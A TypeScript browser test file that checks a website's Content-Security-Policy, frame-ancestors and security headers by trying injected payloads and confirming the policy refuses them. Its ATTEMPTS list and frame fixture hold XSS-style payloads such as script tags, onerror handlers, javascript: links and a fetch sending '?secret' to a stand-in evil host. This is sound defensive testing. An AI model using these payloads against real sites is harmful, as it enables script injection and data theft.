import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { beforeAll, describe, expect, inject, it } from 'vitest'
import { listen } from '../../src/output/serve.ts'
import { sitePolicy, withoutStyles } from '../../src/output/content-security-policy.ts'
import { headerRule } from '../../src/output/hosts/header-and-redirect-files.ts'
import { securityHeaders } from '../../src/output/security-headers.ts'
import { serve } from './serve-site.ts'
import { eventually, follow } from './steps.ts'
import { hydrated, open, visit } from './visit.ts'

const EVIL = 'https://evil.example.com/'

/** What injected markup or code would try, and the directive that must refuse it. */
const ATTEMPTS: readonly (readonly [directive: string, attempt: string | (() => unknown)])[] = [
  ['script-src', '<script>window.ran = true</script>'],
  ['script-src', '<img src="x:" onerror="window.ran = true">'],
  ['script-src', '<a id="click" href="javascript:window.ran=true">x</a>'],
  ['script-src', `<script src="${EVIL}x.js"></script>`],
  ['style-src', '<style>body{color:red}</style>'],
  ['style-src', '<p style="color:red">x</p>'],
  ['img-src', `<img src="${EVIL}?secret">`],
  ['frame-src', `<iframe src="${EVIL}"></iframe>`],
  ['base-uri', `<base href="${EVIL}">`],
  ['object-src', `<object data="${EVIL}x"></object>`],
  ['connect-src', () => void fetch('https://evil.example.com/?secret').catch(() => {})],
  [
    'script-src',
    () => {
      try {
        setTimeout('window.ran = true')
      } catch {
        // Refused immediately: the policy has reported it.
      }
    },
  ],
]

/** Puts markup into a page like a careless program: its scripts run, its link is clicked. */
const injectMarkup = (html: string): void => {
  document.body.append(document.createRange().createContextualFragment(html))
  document.getElementById('click')?.click()
}

let folder: string
/** The shipped site on hosts without headers, and on hosts with a server's settings. */
const origins = new Map<string, string>()

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'security-'))
  origins.set('_headers', inject('shipped'))
  const embeds = {
    scripts: ['https://www.instagram.com'],
    frames: ["'self'", 'https://social.example.com', 'https://www.instagram.com'],
    connections: ['https://www.instagram.com'],
    images: [],
    forms: ["'self'"],
    takesPayments: false,
    opensWindows: true,
    ends: false,
    films: false,
    fonts: true,
  }
  const lasting = securityHeaders(withoutStyles(sitePolicy(embeds, [])), embeds)
  const settings = headerRule('/*', lasting)
  const ends = await Promise.all(
    Object.entries({ 'no headers': undefined, settings }).map(async ([name, headers]) => {
      const dist = join(folder, name)
      await cp(inject('shippedFolder'), dist, { recursive: true })
      await rm(join(dist, '_headers'))
      if (headers !== undefined) await writeFile(join(dist, '_headers'), headers)
      const { origin, close } = await serve(dist)
      origins.set(name, origin)
      return close
    }),
  )
  return async () => {
    for (const close of ends) close()
    await rm(folder, { recursive: true, force: true })
  }
})

const ran = (page: Page): Promise<boolean> => page.evaluate(() => 'ran' in window)

describe.each(['_headers', 'no headers', 'settings'])('the policy of a host with: %s', (host) => {
  it('refuses what injected markup and code would try', async () => {
    const { page, origin, refused } = await visit({ origin: origins.get(host)!, provokes: true })
    for (const [directive, attempt] of ATTEMPTS) {
      await page.goto(origin, { waitUntil: 'domcontentloaded' })
      expect(await ran(page)).toBe(false)
      // What the page before has reported has arrived before its successor.
      refused.length = 0
      await (typeof attempt === 'string'
        ? page.evaluate(injectMarkup, attempt)
        : page.evaluate(attempt))
      await eventually(async () => refused.some((line) => line.includes(directive))).toBe(true)
      expect(await ran(page), String(attempt)).toBe(false)
    }
  })

  it('lets the pages work normally, from one to the next', async () => {
    const { page, refused } = await open('/', { origin: origins.get(host)! })
    await follow(page, page.locator('footer a[href="/locations/layton"]'), '/locations/layton')
    await follow(page, page.locator('header a[href="/book-now"]').first(), '/book-now')
    const size = await page.locator('h1').evaluate((heading) => getComputedStyle(heading).fontSize)
    expect(Number.parseFloat(size)).toBeGreaterThan(30)
    await page.goto(`${origins.get(host)!}/book-now`)
    await hydrated(page)
    expect(await page.locator('h1').evaluate((heading) => getComputedStyle(heading).fontSize)).toBe(
      size,
    )
    expect(refused).toEqual([])
  })
})

describe('the headers', () => {
  it("keep the site out of other sites' frames", async () => {
    const stranger = createServer((_, response) => {
      response.setHeader('content-type', 'text/html')
      response.end(`<!doctype html><iframe src="${inject('shipped')}/"></iframe>`)
    })
    const origin = `http://127.0.0.1:${await listen(stranger, 0, '127.0.0.1')}`
    const { page, refused } = await visit({
      origin,
      thirdParty: (route) => route.continue(),
      provokes: true,
    })
    await page.goto(origin)
    await eventually(async () => refused.length).toBeGreaterThan(0)
    for (const line of refused) expect(line).toContain('frame-ancestors')
    expect(page.frames().map((frame) => frame.url())).not.toContain(`${inject('shipped')}/`)
    stranger.close()
    stranger.closeAllConnections()
  })

  it('match the policy in each page, except for what a page cannot set', async () => {
    const headers = await readFile(join(inject('shippedFolder'), '_headers'), 'utf8')
    const header = /Content-Security-Policy: (.*)/.exec(headers)![1]!.split('; ')
    const html = await readFile(join(inject('shippedFolder'), 'index.html'), 'utf8')
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)![1]!
    const isStyle = (part: string): boolean => part.startsWith('style-src')
    const styles = meta.split('; ').find(isStyle)!.split(' ')
    for (const hash of styles.slice(1)) expect(header.find(isStyle)).toContain(hash)
    expect(header.filter((part) => !isStyle(part))).toEqual([
      ...meta.split('; ').filter((part) => !isStyle(part)),
      // The form of the sample provider is in a frame.
      "frame-ancestors 'self'",
    ])
    // Before anything that it governs.
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(
      html.search(/<style|<script|<link/),
    )
  })
})

describe("a provider's form", () => {
  it('may use its frame as a form needs, and may not navigate the page away by itself', async () => {
    const body = `<!doctype html><form></form><script>
      parent.postMessage(self.origin, '*')
      try { top.location = 'https://evil.example.com/' } catch { parent.postMessage('stays', '*') }
    </script>`
    const { page } = await visit({
      site: 'connected',
      thirdParty: (route, request) =>
        route.fulfill(
          request.resourceType() === 'document'
            ? { contentType: 'text/html', body }
            : { contentType: 'text/javascript', body: '' },
        ),
    })
    await page.addInitScript(() => {
      const heard: unknown[] = []
      Object.assign(window, { heard })
      addEventListener('message', ({ data }) => heard.push(data))
    })
    await page.goto(`${inject('connected')}/book-now`)
    await page.locator('iframe').scrollIntoViewIfNeeded()
    const heard = () => page.evaluate(() => (window as { heard?: unknown[] }).heard)
    await eventually(heard).toEqual(['https://forms.example.com', 'stays'])
    expect(new URL(page.url()).pathname).toBe('/book-now')
  })
})
